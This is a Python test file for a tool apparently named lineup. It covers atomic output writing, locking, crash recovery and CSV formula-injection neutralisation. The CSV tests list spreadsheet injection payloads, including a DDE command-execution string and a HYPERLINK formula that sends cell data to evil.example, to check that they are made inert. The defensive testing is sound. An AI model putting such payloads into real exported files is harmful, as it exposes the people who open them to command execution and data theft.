import json
import os
import signal
import stat
import subprocess
import sys

import pytest
from hypothesis import given, strategies as st

from lineup.errors import OutputBusyError, UsageError
from lineup.io.writers import MANIFEST, claim_output, to_json, verify_outputs, write_files

from ..conftest import HOLD_OUTPUT, pause_at_rename


def test_files_appear_whole_with_ordinary_permissions(tmp_path):
    paths = write_files(tmp_path / "new" / "dir", {"a.json": to_json({"x": 1}), "b.bin": b"\x00\x01"})
    assert [p.name for p in paths] == ["a.json", "b.bin"]
    assert json.loads(paths[0].read_text()) == {"x": 1}
    mode = stat.S_IMODE(os.stat(paths[0]).st_mode)
    assert mode & 0o044  # readable by group/others under the usual umask
    assert not [p for p in paths[0].parent.iterdir() if p.name.startswith(".")]


def test_failure_leaves_previous_files_untouched(tmp_path, monkeypatch):
    write_files(tmp_path, {"a.txt": "old"})

    def fail(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", fail)
    with pytest.raises(UsageError, match="cannot write"):
        write_files(tmp_path, {"a.txt": "new", "b.txt": "new"})
    assert (tmp_path / "a.txt").read_text() == "old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.txt", MANIFEST]  # temp files cleaned up
    assert verify_outputs(tmp_path) == ["a.txt"]


def test_output_path_that_is_a_file(tmp_path):
    (tmp_path / "f").write_text("x")
    with pytest.raises(UsageError, match="cannot create"):
        write_files(tmp_path / "f", {"a.txt": "y"})


def test_json_is_strict():
    assert to_json({"v": float("inf")}) == '{\n  "v": null\n}\n'


def test_second_file_failing_rolls_back_the_first(tmp_path, monkeypatch):
    write_files(tmp_path, {"a.txt": "old a"})
    real_replace, calls = os.replace, []

    def flaky(src, dst):
        calls.append(dst)
        if str(dst).endswith("b.txt"):
            raise OSError(5, "Input/output error")
        return real_replace(src, dst)

    monkeypatch.setattr(os, "replace", flaky)
    with pytest.raises(UsageError):
        write_files(tmp_path, {"a.txt": "new a", "b.txt": "new b"})
    failed_at = [str(c).endswith("b.txt") for c in calls].index(True)
    assert any(str(c).endswith("a.txt") for c in calls[:failed_at])  # a.txt had been replaced when b.txt failed
    assert (tmp_path / "a.txt").read_text() == "old a"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.txt", MANIFEST]
    assert verify_outputs(tmp_path) == ["a.txt"]  # the old manifest is back too


def test_symlink_is_written_through_and_special_files_refused(tmp_path):
    (tmp_path / "real.csv").write_text("old")
    (tmp_path / "link.csv").symlink_to(tmp_path / "real.csv")
    write_files(tmp_path, {"link.csv": "new"})
    assert (tmp_path / "link.csv").is_symlink() and (tmp_path / "real.csv").read_text() == "new"
    (tmp_path / "sub").mkdir()
    with pytest.raises(UsageError, match="a directory"):
        write_files(tmp_path, {"sub": "x"})
    with pytest.raises(UsageError, match="not a regular file"):
        write_files("/dev", {"null": "x"})


# ------------------------------------------------------------------ one writer at a time, crashes, leftovers
HOLD = HOLD_OUTPUT

#: Writes a new set into argv[1], pausing (to be killed) once argv[2] renames are done.
KILLED_WRITE = pause_at_rename(2) + """
from lineup.io.writers import write_files
write_files(sys.argv[1], {"a.txt": "new a", "b.txt": "new b"})
"""


def _start(code, *args):
    proc = subprocess.Popen([sys.executable, "-c", code, *map(str, args)], stdout=subprocess.PIPE, text=True)
    assert proc.stdout.readline().strip() in ("held", "paused"), "the child ended without pausing"
    return proc


def _kill(proc):
    proc.send_signal(signal.SIGKILL)
    proc.wait(timeout=30)
    proc.stdout.close()


def _dead_pid():
    proc = subprocess.Popen(["true"])
    proc.wait()
    return proc.pid


def _contents(directory):
    return {p.name: p.read_text() for p in sorted(directory.iterdir())}


def test_second_writer_fails_at_once_and_the_lock_dies_with_its_holder(tmp_path):
    holder = _start(HOLD, tmp_path)
    try:
        with pytest.raises(OutputBusyError, match=rf"another lineup run is writing .* \(pid {holder.pid}\)"):
            write_files(tmp_path, {"a.txt": "x"})
        assert OutputBusyError("").exit_code == 5
        assert not (tmp_path / "a.txt").exists()
    finally:
        _kill(holder)  # kill -9: no chance to release anything
    write_files(tmp_path, {"a.txt": "x"})
    assert _contents(tmp_path).keys() == {"a.txt", MANIFEST}  # the lock file is gone too


def test_nested_claims_lock_once_and_an_unused_new_directory_is_removed(tmp_path):
    out = tmp_path / "out"
    with claim_output(out):
        assert (out / ".lineup.lock").read_text().strip() == str(os.getpid())
        write_files(out, {"a.txt": "x"})  # the caller's claim covers it
    assert _contents(out).keys() == {"a.txt", MANIFEST}
    with claim_output(tmp_path / "unused"):
        pass
    assert not (tmp_path / "unused").exists()


def test_leftovers_of_dead_runs_are_removed_and_live_ones_kept(tmp_path):
    dead, live = _dead_pid(), os.getppid()
    leftovers = [f".a.txt.lineup-{dead}-abcd_123.tmp", f".a.txt.lineup-{dead}-abcd_123.old",
                 ".a.txt.k3j4h5g6.tmp", ".a.txt.zz9_x8y7.old", f".{MANIFEST}.lineup-{dead}-0000aaaa.old"]
    kept = [f".c.txt.lineup-{live}-abcd_123.tmp", ".c.txt.k3j4h5g6.tmp", ".notes", "a.txt.bak"]
    for name in leftovers + kept:
        (tmp_path / name).write_text("?")
    write_files(tmp_path, {"a.txt": "new"})
    assert set(_contents(tmp_path)) == {"a.txt", MANIFEST, *kept}


@pytest.mark.parametrize("renames_done", range(6))
def test_a_write_killed_at_any_rename_leaves_one_whole_set(tmp_path, renames_done):
    write_files(tmp_path, {"a.txt": "old a", "b.txt": "old b"})
    old, new = {"a.txt": "old a", "b.txt": "old b"}, {"a.txt": "new a", "b.txt": "new b"}
    _kill(_start(KILLED_WRITE, tmp_path, renames_done))
    journal = (tmp_path / ".lineup-journal.json").exists()
    try:  # right after the kill: the manifest vouches for one whole set, or it is missing
        assert {n: _contents(tmp_path)[n] for n in verify_outputs(tmp_path)} in (old, new)
    except UsageError:
        assert journal and not (tmp_path / MANIFEST).exists()  # only while a roll-forward is pending
    with claim_output(tmp_path):  # what the next run does first
        pass
    files = {n: _contents(tmp_path)[n] for n in verify_outputs(tmp_path)}
    assert files == (new if journal else files) and files in (old, new)
    assert not [p.name for p in tmp_path.iterdir() if p.name.startswith(".")]  # no leftovers


# --------------------------------------------------------------------------- CSV formula injection

FORMULA_PAYLOADS = ["=1+2", "-2+3", "+cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"x")',
                    "@SUM(A1)", "\tTAB", "\rCR"]


@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
def test_text_cells_that_start_a_formula_are_neutralised(payload):
    from lineup.io.writers import csv_cell

    assert csv_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", [-2.5, -3, 0, None, True, float("nan"), "alice", "a=b", "[/bold]", ""])
def test_numbers_and_plain_text_are_unchanged(value):
    from lineup.io.writers import csv_cell

    assert csv_cell(value) is value


def test_frame_csv_neutralises_text_and_headers_not_negative_numbers():
    import csv
    import io

    import pandas as pd

    from lineup.io.writers import frame_csv

    frame = pd.DataFrame({"strategy": ["-2+3", "=1+2", "ok"], "spend": [-2.5, 1.0, 2.0],
                          "influencers": pd.array([-1, None, 3], dtype="Int64"), "-col": ["x", "y", "z"]})
    rows = list(csv.reader(io.StringIO(frame_csv(frame))))
    assert rows[0] == ["strategy", "spend", "influencers", "'-col"]
    assert [r[0] for r in rows[1:]] == ["'-2+3", "'=1+2", "ok"]
    assert [r[1] for r in rows[1:]] == ["-2.5", "1.0", "2.0"]  # numbers stay numbers
    assert [r[2] for r in rows[1:]] == ["-1", "", "3"]


def test_csv_text_formats_floats_and_neutralises_text_once():
    from lineup.io.writers import csv_text

    assert csv_text(["id", "fee"], [["=1+2", -2.5], ["'q", float("nan")]], "%.6g") == "id,fee\n'=1+2,-2.5\n''q,\n"


@given(st.text())
def test_csv_uncell_undoes_csv_cell(text):
    from lineup.io.writers import csv_cell, csv_uncell

    assert csv_uncell(csv_cell(text)) == text
    assert not csv_cell(text).startswith(("=", "+", "-", "@", "\t", "\r"))
